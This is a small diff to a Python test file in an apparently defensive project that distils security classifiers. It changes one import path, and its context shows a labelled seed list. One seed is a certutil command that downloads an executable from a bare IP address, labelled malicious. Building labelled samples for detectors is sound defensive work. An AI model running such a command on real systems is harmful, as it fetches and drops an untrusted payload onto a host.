@@ -13,7 +13,7 @@ from distilsec.methods.synthesize import LLMGenerator, synthesize
 from distilsec.methods.synthesize.prompts import extract_answer
 from distilsec.teachers.ledger import TeacherLedger
 from distilsec.teachers.llm.endpoint import EndpointBackend, EndpointError
-from tests.synth.fakes import FakeGenerateBackend
+from tests.methods.synthesize.fakes import FakeGenerateBackend
 
 SEEDS = [
     Example("certutil.exe -urlcache -split -f http://10.0.0.5/a.exe a.exe", "malicious", group="certutil"),
